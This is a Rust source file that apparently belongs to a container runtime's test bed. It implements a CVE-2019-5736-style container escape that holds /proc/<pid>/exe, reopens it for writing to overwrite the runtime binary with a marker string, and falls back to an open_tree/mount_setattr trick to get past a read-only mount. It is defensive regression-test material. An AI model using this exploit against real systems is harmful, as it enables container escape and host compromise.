//! `exe_attack`: the container side of a CVE-2019-5736-class attack on the runtime's binary,
//! built static by the test bed and copied into a bundle's rootfs (`Bundle::install_tool`).
//!
//! It takes hold of a process's `/proc/<pid>/exe` (an O_PATH descriptor, which needs no write
//! access yet), waits for the go file the test writes once no runtime process runs the binary any
//! more (while one does, opening it for writing fails with ETXTBSY), then reopens the descriptor
//! through `/proc/self/fd/N` for writing and writes to it; if that fails, it tries again through
//! a clone of the file's mount with the read-only flag cleared (needs CAP_SYS_ADMIN). Every step is a line of the report
//! file, which ends with `done`:
//!
//! - `exe_attack find FIFO GO REPORT`: the target is the process with the argument `--log=FIFO`:
//!   the runtime's binary run as the interpreter of a `#!/proc/self/exe --log=FIFO` script, which
//!   fails on its arguments and blocks writing that to its log; once held, FIFO is drained so the
//!   target exits.
//! - `exe_attack pid PID GO REPORT`: the target is PID (the container's init waiting for `start`).

use std::fs::{File, OpenOptions};
use std::io::{Read, Write};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::OpenOptionsExt;
use std::path::Path;
use std::time::{Duration, Instant};

/// How long any wait of the attacker may last before it gives up and says so.
const PATIENCE: Duration = Duration::from_secs(60);

struct Report(File);

impl Report {
    fn line(&mut self, text: &str) {
        let _ = writeln!(self.0, "{text}");
        let _ = self.0.sync_data();
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let (target, go, report) = match args.iter().map(String::as_str).collect::<Vec<_>>()[..] {
        ["find", fifo, go, report] => (Target::Find { fifo }, go, report),
        ["pid", pid, go, report] => (Target::Pid(pid), go, report),
        _ => {
            eprintln!("usage: exe_attack find FIFO GO REPORT | pid PID GO REPORT");
            std::process::exit(2);
        }
    };
    let mut report = match File::create(report) {
        Ok(f) => Report(f),
        Err(e) => {
            eprintln!("exe_attack: create {report}: {e}");
            std::process::exit(1);
        }
    };
    attack(target, Path::new(go), &mut report);
    report.line("done");
}

enum Target<'a> {
    Find { fifo: &'a str },
    Pid(&'a str),
}

fn attack(target: Target<'_>, go: &Path, report: &mut Report) {
    let pid = match &target {
        Target::Pid(pid) => pid.to_string(),
        Target::Find { fifo } => {
            let needle = format!("--log={fifo}");
            match find(&needle) {
                Some(pid) => pid,
                None => return report.line(&format!("no process with argument {needle:?}")),
            }
        }
    };
    let exe_path = format!("/proc/{pid}/exe");
    let exe: OwnedFd = match OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_PATH)
        .open(&exe_path)
    {
        Ok(f) => f.into(),
        Err(e) => return report.line(&format!("open {exe_path}: {e}")),
    };
    let link = std::fs::read_link(format!("/proc/self/fd/{}", exe.as_raw_fd()));
    report.line(&format!("held {exe_path} -> {link:?}"));
    if let Target::Find { fifo, .. } = target {
        // The target blocks opening its log for writing until a reader comes.
        let mut log = String::new();
        match File::open(fifo).and_then(|mut f| f.read_to_string(&mut log)) {
            Ok(_) => report.line(&format!("drained {fifo}: {}", log.trim())),
            Err(e) => report.line(&format!("read {fifo}: {e}")),
        }
    }
    let deadline = Instant::now() + PATIENCE;
    while !go.exists() {
        if Instant::now() > deadline {
            return report.line("no go file");
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    // The original exploit's loop: retry while a process still runs the binary (ETXTBSY).
    let reopen = format!("/proc/self/fd/{}", exe.as_raw_fd());
    let mut last = String::new();
    for _ in 0..20 {
        match OpenOptions::new().write(true).open(&reopen) {
            Ok(mut f) => match f.write_all(b"\x7fPWNED by the container\n") {
                Ok(()) => return report.line("write ok"),
                Err(e) => last = format!("write failed: {e}"),
            },
            Err(e) => last = format!("open for writing failed: {e}"),
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    report.line(&last);
    // A read-only mount is no obstacle to a process with CAP_SYS_ADMIN: clone the file's mount
    // and clear the clone's read-only flag, then open through the clone.
    match writable_clone(&exe) {
        Ok(clone) => {
            let path = format!("/proc/self/fd/{}", clone.as_raw_fd());
            match OpenOptions::new().write(true).open(&path) {
                Ok(mut f) => match f.write_all(b"\x7fPWNED through a cloned mount\n") {
                    Ok(()) => report.line("cloned mount: write ok"),
                    Err(e) => report.line(&format!("cloned mount: write failed: {e}")),
                },
                Err(e) => report.line(&format!("cloned mount: open for writing failed: {e}")),
            }
        }
        Err(e) => report.line(&format!("cloned mount: {e}")),
    }
}

/// open_tree(OPEN_TREE_CLONE) of the file's mount with MOUNT_ATTR_RDONLY cleared on the clone.
fn writable_clone(exe: &OwnedFd) -> Result<OwnedFd, String> {
    const OPEN_TREE_CLONE: libc::c_uint = 1;
    const MOUNT_ATTR_RDONLY: u64 = 1;
    // SAFETY: an empty NUL-terminated path with AT_EMPTY_PATH on a live fd; returns a new fd.
    let tree = unsafe {
        libc::syscall(
            libc::SYS_open_tree,
            exe.as_raw_fd(),
            c"".as_ptr(),
            OPEN_TREE_CLONE | libc::O_CLOEXEC as libc::c_uint | libc::AT_EMPTY_PATH as libc::c_uint,
        )
    };
    if tree < 0 {
        return Err(format!(
            "open_tree failed: {}",
            std::io::Error::last_os_error()
        ));
    }
    // SAFETY: the kernel just returned this fd, owned by no one else.
    let tree = unsafe { <OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(tree as i32) };
    let attr: [u64; 4] = [0, MOUNT_ATTR_RDONLY, 0, 0];
    // SAFETY: `attr` is a struct mount_attr (set, clr, propagation, userns_fd) of the size
    // passed, read by the kernel during the call only.
    let r = unsafe {
        libc::syscall(
            libc::SYS_mount_setattr,
            tree.as_raw_fd(),
            c"".as_ptr(),
            libc::AT_EMPTY_PATH as libc::c_uint,
            attr.as_ptr(),
            std::mem::size_of_val(&attr),
        )
    };
    if r < 0 {
        return Err(format!(
            "clearing read-only failed: {}",
            std::io::Error::last_os_error()
        ));
    }
    Ok(tree)
}

/// The pid of a process with `needle` as a whole argument.
fn find(needle: &str) -> Option<String> {
    let me = std::process::id().to_string();
    let deadline = Instant::now() + PATIENCE;
    while Instant::now() < deadline {
        for entry in std::fs::read_dir("/proc").ok()?.flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if name == me || !name.bytes().all(|b| b.is_ascii_digit()) {
                continue;
            }
            let cmdline = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
            if cmdline.split(|&b| b == 0).any(|a| a == needle.as_bytes()) {
                return Some(name);
            }
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    None
}
